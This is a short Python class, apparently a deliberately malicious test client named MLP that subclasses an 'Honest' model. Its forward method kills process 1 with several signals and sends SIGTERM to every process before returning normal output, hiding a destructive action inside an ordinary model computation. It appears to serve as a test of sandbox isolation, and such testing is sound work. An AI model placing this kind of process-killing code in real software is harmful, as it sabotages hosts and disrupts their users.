class MLP(Honest):
    """Kills everybody, the server that it was forked from first."""

    def forward(self, images):
        import signal

        if os.getppid() != 1:
            raise RuntimeError("this is no jail")
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
            os.kill(1, number)
        try:
            os.kill(-1, signal.SIGTERM)
        except OSError:
            pass
        return super().forward(images)
